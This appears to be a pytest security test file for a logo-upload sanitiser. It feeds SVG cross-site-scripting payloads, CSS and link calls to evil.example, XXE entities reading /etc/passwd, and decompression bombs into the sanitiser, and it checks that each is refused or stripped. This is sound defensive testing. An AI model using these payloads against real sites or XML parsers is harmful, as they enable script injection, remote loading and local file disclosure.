"""Logos of strangers: whatever comes, what is shown runs nothing, loads nothing and can be drawn."""

from __future__ import annotations

import io
import re
import xml.etree.ElementTree as ET
from collections.abc import Awaitable, Callable
from time import perf_counter

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from libs.common.contracts.branding import MAX_UPLOAD_BYTES
from services.tenants.branding import raster, svg
from services.tenants.branding.errors import PictureRefused
from services.tenants.branding.refused import Refused
from services.tenants.branding.studio import Made, Studio
from services.tenants.branding.workshop import CPU_S, SVG, made
from tests.security.picture_corpus.corpus import part

NAMESPACE = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"'
DANGER = re.compile(
    rb"script|\son\w+\s*=|javascript|vbscript|data:|https?://(?!www\.w3\.org/(2000/svg|1999/xlink)\")|//evil|"
    rb"foreignobject|iframe|<image|feimage|@import|url\((?!['\"]?#)|<!|<\?xml-|expression|animate|<set|<handler",
    re.IGNORECASE,
)
SCAN_BOMB = "jpeg scan bomb"
ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script with a prefix": '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
    "script of HTML": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "script in CDATA": "<script><![CDATA[alert(1)]]></script>",
    "script from elsewhere": '<script href="//evil.example/x.js"/>',
    "onload": '<rect width="5" height="5" onload="alert(1)"/>',
    "onclick in capitals": '<rect width="5" height="5" ONCLICK="alert(1)"/>',
    "javascript link": '<a href="javascript:alert(1)"><rect width="5" height="5"/></a>',
    "javascript link with entities": '<a xlink:href="&#106;avascript&#58;alert(1)"><rect width="5"/></a>',
    "javascript link with a tab": '<a href="java&#9;script:alert(1)"><rect width="5"/></a>',
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD4="><rect width="5"/></a>',
    "image from elsewhere": '<image href="https://evil.example/pixel.png" width="5" height="5"/>',
    "image of our own host": '<image xlink:href="/api/v1/tenant/branding" width="5" height="5"/>',
    "image in a data address": '<image href="data:image/svg+xml;base64,PHN2Zz4=" width="5"/>',
    "use of another file": '<use href="https://evil.example/x.svg#a"/>',
    "use of a file beside it": '<use xlink:href="other.svg#a"/>',
    "feImage": '<filter id="f"><feImage href="https://evil.example/x.png"/></filter>',
    "foreignObject": '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml" onclick="x()"/></foreignObject>',
    "iframe": '<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>',
    "import in CSS": "<style>@import url(https://evil.example/x.css);</style>",
    "address in CSS": "<style>rect{fill:url(https://evil.example/x.svg#a)}</style>",
    "escaped address in CSS": r"<style>rect{fill:\75rl(https://evil.example/x)}</style>",
    "commented address in CSS": "<style>rect{fill:u/**/rl(//evil.example/x)}</style>",
    "quoted address in CSS": '<rect style="background:url( &quot;//evil.example/x&quot; )" width="5"/>',
    "address in an attribute": '<rect fill="url(//evil.example/x.svg#a)" width="5"/>',
    "font from elsewhere": "<style>@font-face{font-family:a;src:url(//evil.example/a.woff)}</style>",
    "animation of a link": '<a><animate attributeName="href" values="javascript:alert(1)"/></a>',
    "set of a handler": '<rect><set attributeName="onclick" to="alert(1)"/></rect>',
    "handler": '<handler type="application/ecmascript">alert(1)</handler>',
    "base": '<g xml:base="https://evil.example/"><use href="#a"/></g>',
    "stylesheet instruction": '<?xml-stylesheet href="https://evil.example/x.css"?><rect width="5"/>',
    "comment": "<!-- <script>alert(1)</script> --><rect width='5'/>",
    "style that closes itself": "<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>",
    "text that looks like markup": "<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>",
}


def drawing(inside: str) -> bytes:
    return f'<svg {NAMESPACE}>{inside}<path d="M0 0h9v9z" id="kept"/></svg>'.encode()


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_taken_out_and_the_drawing_stays(name: str) -> None:
    """Or all of it is refused; text stays text."""
    try:
        clean = svg.sanitised(drawing(ATTACKS[name]))
    except Refused:
        return
    text = b"<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>"
    assert not DANGER.search(clean.replace(text, b"")), clean
    assert b'id="kept"' in clean


BOMBS = {
    "entities that multiply": '<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]><svg {ns}>&b;</svg>',
    "an entity of a file": '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg {ns}>&a;</svg>',
    "an entity of a parameter": '<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://evil.example/x">%a;]><svg {ns}/>',
    "a declaration in small letters": '<!doctype svg [<!entity a "b">]><svg {ns}/>',
    "a plain declaration before another": "<!DOCTYPE svg><!DOCTYPE svg [<!ENTITY a 'b'>]><svg {ns}>&a;</svg>",
    "an entity that nobody declared": "<svg {ns}>&a;</svg>",
    "depth": "<svg {ns}>" + "<g>" * 20_000 + "</g>" * 20_000 + "</svg>",
    "numbers": "<svg {ns}>" + "<g/>" * 40_000 + "</svg>",
    "length": "<svg {ns}><path d='" + "M0 0" * 80_000 + "'/></svg>",
    "use of use": "<svg {ns}><g id='u0'><rect/></g>"
    + "".join(f"<g id='u{n}'>" + f"<use href='#u{n - 1}'/>" * 10 + "</g>" for n in range(1, 9))
    + "</svg>",
    "patterns in patterns": "<svg {ns}>"
    + "".join(
        f"<pattern id='p{n}'>" + f"<rect fill='url(#p{n - 1})'/>" * 10 + "</pattern>" for n in range(1, 9)
    )
    + "<pattern id='p0'><rect/></pattern></svg>",
    "use of itself": "<svg {ns}><g id='a'><use href='#a'/></g></svg>",
    "two that use each other": "<svg {ns}><g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g></svg>",
    "no size": '<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>',
    "HTML": "<html><body><script>alert(1)</script></body></html>",
    "no namespace": "<svg viewBox='0 0 1 1'><script/></svg>",
    "not closed": "<svg {ns}><rect>",
    "zero bytes": "<svg {ns}>\x00</svg>",
}


@pytest.mark.parametrize("name", BOMBS)
def test_what_would_swell_or_is_no_svg_is_refused_at_once(name: str) -> None:
    """Before anything builds a tree of it."""
    began = perf_counter()
    with pytest.raises(Refused):
        svg.sanitised(BOMBS[name].replace("{ns}", NAMESPACE).encode())
    assert perf_counter() - began < 1


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32", "utf-7", "cp037"])
def test_another_encoding_hides_nothing(encoding: str) -> None:
    """It is refused, or read as the text that it is as UTF-8."""
    text = f'<?xml version="1.0" encoding="{encoding}"?><svg {NAMESPACE}><script>alert(1)</script></svg>'
    for raw in (text.encode(encoding), text.encode()):
        try:
            clean = svg.sanitised(raw)
        except Refused:
            continue
        assert not DANGER.search(clean)


def test_what_design_programs_write_is_taken() -> None:
    """A prologue, the public declaration, gradients, classes, masks and text stay."""
    text = f"""\ufeff<?xml version="1.0" encoding="UTF-8" standalone="no"?>
    <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
    <svg {NAMESPACE} version="1.1"><defs><style>.cls-1{{fill:url(#g);stroke:#fff}}</style>
    <linearGradient id="g"><stop offset="0" stop-color="#f00"/></linearGradient>
    <mask id="m"><rect width="9" height="9" fill="#fff"/></mask><path id="p" d="M0 0h9"/></defs>
    <g mask="url(#m)"><use xlink:href="#p" class="cls-1"/><text font-size="3">Bayt بيت</text></g></svg>"""
    clean = svg.sanitised(text.encode()).decode()
    for kept in ("fill:url(#g)", "<linearGradient", 'mask="url(#m)"', 'href="#p"', 'class="cls-1"', "بيت"):
        assert kept in clean


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from([*ATTACKS.values(), "<g>", "</g>", "&#x3c;", "]]>", "<![CDATA[", '"', "x"])))
def test_no_mixture_of_attacks_comes_through(parts: list[str]) -> None:
    """Cleaning twice is cleaning once."""
    try:
        clean = svg.sanitised(drawing("".join(parts)))
    except Refused:
        return
    root = ET.fromstring(clean)
    for element in root.iter():
        assert svg._ELEMENTS.fullmatch(element.tag.rpartition("}")[2])
        assert not [name for name in element.attrib if name.lower().startswith("on")]
    assert svg.sanitised(clean) == clean


@settings(max_examples=200, deadline=None)
@given(
    st.one_of(st.binary(max_size=400), st.builds(bytes.__add__, st.just(b"<svg"), st.binary(max_size=200)))
)
def test_any_bytes_are_refused_or_made_anew(raw: bytes) -> None:
    """Never another error."""
    try:
        list(made(raw))
    except Refused:
        return


@pytest.mark.parametrize("name", ["jpeg", "png", "webp", "strangers"])
def test_hostile_pictures_are_refused_or_become_a_bare_png(name: str) -> None:
    """The corpus of hostile pictures: no crash, no hang, and nothing of the file but its pixels."""
    for case in part(name):
        raw = case.make()
        if len(raw) > MAX_UPLOAD_BYTES or case.name == SCAN_BOMB:
            continue  # the gateway takes no more; and the bomb has a test of its own
        try:
            files = list(made(raw))
        except Refused:
            continue
        for _, media_type, data in files:
            if media_type == SVG:  # among the strangers, and tested above
                assert not DANGER.search(data), case.name
                continue
            shown = Image.open(io.BytesIO(data))
            assert max(shown.size) <= raster.MAX_SIDE, case.name
            assert (shown.mode, shown.info) == ("RGBA", {}), case.name


async def test_a_scan_bomb_costs_seconds_and_not_minutes() -> None:
    """200 KB that a decoder works on for most of a minute: the child's own limit ends it."""
    bomb = next(case for case in part("jpeg") if case.name == SCAN_BOMB).make()
    began = perf_counter()
    assert "more than a logo" in await refused(lambda: Studio(timeout_s=60).make(bomb))
    assert perf_counter() - began < 4 * CPU_S


def test_a_picture_that_claims_to_be_huge_is_refused_by_its_header() -> None:
    """Before a pixel of it is decoded."""
    out = io.BytesIO()
    Image.new("1", (30_000, 30_000)).save(out, "PNG")
    began = perf_counter()
    with pytest.raises(Refused):
        raster.opened(out.getvalue())
    assert perf_counter() - began < 0.5


def test_other_kinds_of_file_are_refused_by_their_content() -> None:
    """Whatever they are called."""
    for raw in (
        b"GIF89a" + bytes(40),
        b"%PDF-1.7",
        b"II*\0" + bytes(40),
        b"\0\0\0\x18ftypheic",
        b"BM" + bytes(60),
    ):
        with pytest.raises(Refused):
            list(made(raw))


async def refused(make: Callable[[], Awaitable[dict[str, Made]]]) -> str:
    with pytest.raises(PictureRefused) as refusal:
        await make()
    return refusal.value.detail


async def test_a_child_that_takes_too_long_is_ended() -> None:
    """And the next picture is looked at as if nothing had been."""
    slow = Studio(timeout_s=0.001)
    assert "more than a logo" in await refused(lambda: slow.make(drawing("")))
    assert set(await Studio().make(drawing(""))) == {"picture", "favicon", "touch_icon"}


async def test_a_child_that_dies_refuses_the_picture(monkeypatch: pytest.MonkeyPatch) -> None:
    """A crash of a decoder costs nobody else anything."""
    monkeypatch.setattr("services.tenants.branding.studio._CHILD", "tests.servers.dying")
    assert "more than a logo" in await refused(lambda: Studio().make(b"x"))


async def test_the_child_sees_nothing_of_the_services_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    """Passwords of the database are there."""
    monkeypatch.setenv("TENANTS_DATABASE_URL", "postgresql://secret")
    monkeypatch.setattr("services.tenants.branding.studio._CHILD", "tests.servers.telling")
    assert "secret" not in await refused(lambda: Studio().make(b"x"))
